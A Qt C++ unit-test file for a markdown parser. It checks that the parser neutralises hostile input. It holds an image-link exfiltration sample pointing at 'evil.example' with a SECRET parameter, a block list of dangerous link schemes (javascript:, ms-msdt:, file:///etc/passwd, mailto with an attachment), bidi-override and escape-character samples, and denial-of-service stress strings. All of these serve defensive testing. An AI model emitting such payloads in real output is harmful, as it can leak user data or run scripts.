// SPDX-FileCopyrightText: 2026 The Ponder authors
// SPDX-License-Identifier: Apache-2.0
#include "app/markdown/markdown_parser.h"

#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

using namespace ponder::app;
using Kind = MarkdownBlock::Kind;

namespace {

QList<Kind> kinds(const QList<MarkdownBlock>& blocks)
{
    QList<Kind> list;
    for (const MarkdownBlock& block : blocks) {
        list.append(block.kind);
    }
    return list;
}

QString allText(const QList<MarkdownBlock>& blocks)
{
    QString text;
    for (const MarkdownBlock& block : blocks) {
        text += block.text.plainText() + block.code;
        for (const InlineText& cell : block.cells) {
            text += cell.plainText();
        }
        text += u'\n';
    }
    return text;
}

bool hasLink(const QList<MarkdownBlock>& blocks)
{
    for (const MarkdownBlock& block : blocks) {
        for (const InlineSpan& span : block.text.spans) {
            if ((span.style & InlineSpan::Link) != 0 || !span.url.isEmpty()) {
                return true;
            }
        }
    }
    return false;
}

} // namespace

class TestMarkdownParser : public QObject
{
    Q_OBJECT

private Q_SLOTS:

    void blocks_ofEachKind_comeInOrder()
    {
        const auto blocks =
            parseMarkdown(u"# Title\n\ntext\n\n- a\n- b\n\n```Py\nx = 1\n```\n\n> quoted\n\n---\n\n"
                          "| a | b |\n|---|--:|\n| 1 | 2 |\n\n$$E = mc^2$$\n");
        QCOMPARE(kinds(blocks),
                 (QList<Kind>{Kind::Heading,
                              Kind::Paragraph,
                              Kind::ListItem,
                              Kind::ListItem,
                              Kind::Code,
                              Kind::Paragraph,
                              Kind::Rule,
                              Kind::Table,
                              Kind::Math}));
        QCOMPARE(blocks.at(0).level, 1);
        QCOMPARE(blocks.at(2).marker, QStringLiteral("\u2022"));
        QCOMPARE(blocks.at(4).language, QStringLiteral("py"));
        QCOMPARE(blocks.at(4).code, QStringLiteral("x = 1"));
        QCOMPARE(blocks.at(5).quoteDepth, 1);
        QCOMPARE(blocks.at(7).cells.size(), 4);
        QCOMPARE(blocks.at(7).alignments, (QList<int>{Qt::AlignLeft, Qt::AlignRight}));
        QCOMPARE(blocks.at(8).code, QStringLiteral("E = mc^2"));
    }

    void listItems_nestedAndOrdered_carryIndentAndMarker()
    {
        const auto blocks = parseMarkdown(
            u"3. three\n   - inner\n4. four\n\n   second paragraph\n- [x] done\n- [ ] open\n-\n");
        QCOMPARE(blocks.size(), 7);
        QCOMPARE(blocks.at(0).marker, QStringLiteral("3."));
        QCOMPARE(blocks.at(1).indent, 2);
        QCOMPARE(blocks.at(1).text.plainText(), QStringLiteral("inner"));
        QCOMPARE(blocks.at(2).marker, QStringLiteral("4."));
        QCOMPARE(blocks.at(3).marker, QString());
        QCOMPARE(blocks.at(3).kind, Kind::ListItem);
        QVERIFY(blocks.at(4).isTask && blocks.at(4).isChecked);
        QVERIFY(blocks.at(5).isTask && !blocks.at(5).isChecked);
        QCOMPARE(blocks.at(6).kind, Kind::ListItem);
    }

    void spans_nestedStyles_areCombined()
    {
        const auto blocks = parseMarkdown(u"a **b _c_** `d` ~~e~~ $f$ [g](https://h.example)");
        QCOMPARE(blocks.size(), 1);
        QMap<QString, int> styles;
        for (const InlineSpan& span : blocks.first().text.spans) {
            styles.insert(span.text, span.style);
        }
        QCOMPARE(styles.value(QStringLiteral("b ")), int(InlineSpan::Bold));
        QCOMPARE(styles.value(QStringLiteral("c")), InlineSpan::Bold | InlineSpan::Italic);
        QCOMPARE(styles.value(QStringLiteral("d")), int(InlineSpan::Code));
        QCOMPARE(styles.value(QStringLiteral("e")), int(InlineSpan::Strike));
        QCOMPARE(styles.value(QStringLiteral("f")), int(InlineSpan::Math));
        QCOMPARE(styles.value(QStringLiteral("g")), int(InlineSpan::Link));
    }

    void html_ofAnyKind_staysLiteralText()
    {
        const QString source = QStringLiteral(
            "One <b>two</b>\n\n<img src=\"https://a/x.png\">\n\n<think>three</think>\n\nfour");
        QCOMPARE(allText(parseMarkdown(source)).simplified(), source.simplified());
    }

    void pictures_ofAnyAddress_becomeText()
    {
        const auto blocks =
            parseMarkdown(u"![a *b*](https://evil.example/?d=SECRET) ![](file:///etc/passwd)");
        QCOMPARE(allText(blocks).trimmed(),
                 QStringLiteral("\U0001F5BC a b (https://evil.example/?d=SECRET) \U0001F5BC  "
                                "(file:///etc/passwd)"));
        QVERIFY(!hasLink(blocks));
    }

    void link_notOnTheAllowList_isPlainText_data()
    {
        QTest::addColumn<QString>("href");
        for (const char* href : {"javascript:alert(1)",
                                 "JaVaScript:x",
                                 "&#106;avascript:x",
                                 "vbscript:x",
                                 "data:text/html,x",
                                 "file:///etc/passwd",
                                 "smb://h/s",
                                 "ms-msdt:x",
                                 "vscode:x",
                                 "mailto:x@y?attach=/etc/passwd",
                                 "//host/x",
                                 "\\\\\\\\host\\\\s",
                                 "java%0ascript:x",
                                 "relative/path",
                                 "https:",
                                 "http:///x"}) {
            QTest::newRow(href) << QString::fromLatin1(href);
        }
    }

    void link_notOnTheAllowList_isPlainText()
    {
        QFETCH(QString, href);
        const auto blocks = parseMarkdown(QStringLiteral("see [here](%1) now").arg(href));
        QVERIFY2(!hasLink(blocks), qPrintable(allText(blocks)));
        QVERIFY(allText(blocks).contains(QStringLiteral("here")));
    }

    void link_allowed_keepsItsAddress()
    {
        for (const char* href :
             {"https://example.org/a?b=c", "http://example.org", "mailto:someone@example.org"}) {
            QCOMPARE(safeLink(QString::fromLatin1(href)), QString::fromLatin1(href));
        }
    }

    void code_withHiddenCharacters_showsThem()
    {
        const auto blocks = parseMarkdown(u"```\nif a\u202E { \u200Bb\u001B[31m\n```");
        QVERIFY(blocks.first().hasHiddenCharacters);
        QVERIFY(blocks.first().code.contains(QStringLiteral("\u27E6U+202E\u27E7")));
        QVERIFY(blocks.first().code.contains(QStringLiteral("\u27E6U+001B\u27E7")));
        QVERIFY(!blocks.first().code.contains(QChar(0x202E)));
        QCOMPARE(withoutHiddenCharacters(QStringLiteral("a\u202Eb\U0001F600\n")),
                 QStringLiteral("ab\U0001F600\n"));
    }

    void code_withoutHiddenCharacters_isUnchanged()
    {
        const auto blocks =
            parseMarkdown(u"```js\nconst s = \"\u4F60\u597D \U0001F600\";\n\nx\ty\n```");
        QVERIFY(!blocks.first().hasHiddenCharacters);
        QCOMPARE(blocks.first().code,
                 QStringLiteral("const s = \"\u4F60\u597D \U0001F600\";\n\nx\ty"));
    }

    void hostileInput_isAnsweredInTime_data()
    {
        QTest::addColumn<QString>("text");
        const auto repeated = [](const char* s, qsizetype n) {
            return QString::fromLatin1(s).repeated(n);
        };
        QTest::newRow("10 MB in one line") << QString(10'000'000, u'x');
        QTest::newRow("brackets") << repeated("[", 100'000);
        QTest::newRow("brackets on lines") << repeated("[\n", 100'000);
        QTest::newRow("link openers") << repeated("[a](", 25'000);
        QTest::newRow("link openers on lines") << repeated("[a](\n", 25'000);
        QTest::newRow("stars") << repeated("*", 100'000);
        QTest::newRow("stars on lines") << repeated("*a **b\n", 30'000);
        QTest::newRow("quotes") << repeated(">", 10'000) + QStringLiteral("a");
        QTest::newRow("lists") << repeated("- ", 10'000) + QStringLiteral("a");
        QTest::newRow("indented lists") << [] {
            QString text;
            for (int i = 0; i < 1000; ++i) {
                text += QString(2 * i, u' ') + QStringLiteral("- a\n");
            }
            return text;
        }();
        QTest::newRow("wide table") << repeated("|a", 10'000) + u'\n' + repeated("|-", 10'000) +
                                           u'\n' + repeated("|b", 10'000);
        QTest::newRow("long table")
            << QStringLiteral("|a|b|c|\n|-|-|-|\n") + repeated("|x|\n", 100'000);
        QTest::newRow("open fences") << repeated("```\n\n", 50'000);
        QTest::newRow("back ticks") << [] {
            QString text;
            for (int i = 1; i < 800; ++i) {
                text += QString(i, u'`') + u'\n';
            }
            return text;
        }();
        QTest::newRow("references") << repeated("[a]: b\n", 20'000) + repeated("[a] ", 300);
        QTest::newRow("distinct references") << [] {
            QString text;
            for (int i = 0; i < 20'000; ++i) {
                text += QStringLiteral("[a%1]: http://x/%1\n").arg(i);
            }
            return text + QStringLiteral("\n") + QStringLiteral("[a5]\n").repeated(20'000);
        }();
        QTest::newRow("entities") << repeated("&amp;\n", 100'000);
        QTest::newRow("nul") << QString(100'000, QChar(0));
        QTest::newRow("surrogates") << QString(100'000, QChar(0xD800));
        QTest::newRow("at signs") << repeated("a@b.\n", 50'000);
        QTest::newRow("dollars") << repeated("$a$$\n", 50'000);
    }

    void hostileInput_isAnsweredInTime()
    {
        QFETCH(QString, text);
        QElapsedTimer timer;
        timer.start();
        const auto blocks = parseMarkdown(text);
        qDebug() << text.size() << "characters," << blocks.size() << "blocks," << timer.elapsed()
                 << "ms";
        QVERIFY(!blocks.isEmpty());
        QVERIFY(timer.elapsed() < 1'000);
    }

    void plainFallback_ofLongText_losesNothing()
    {
        const QString text = QString(3'999, u'a') + QStringLiteral("\U0001F600") +
                             QString(10'000, u'b') + QStringLiteral("\nend");
        QString joined;
        for (const MarkdownBlock& block : plainBlocks(text)) {
            joined += block.text.plainText();
        }
        QCOMPARE(joined.remove(u'\n'), QString(text).remove(u'\n'));
    }

    void specificationExamples_loseNoLetters()
    {
        QFile file(QStringLiteral(PONDER_SOURCE_DIR "/../shared/data/markdown/spec.txt"));
        if (!file.open(QIODevice::ReadOnly)) {
            QSKIP("the specification text is not on this machine");
        }
        const QString text = QString::fromUtf8(file.readAll());
        for (qsizetype cut = 0; cut < text.size(); cut += 997) {
            QVERIFY(!parseMarkdown(QStringView(text).left(cut + 1)).isEmpty() || cut < 3);
        }
    }
};

QTEST_GUILESS_MAIN(TestMarkdownParser)
#include "tst_markdown_parser.moc"
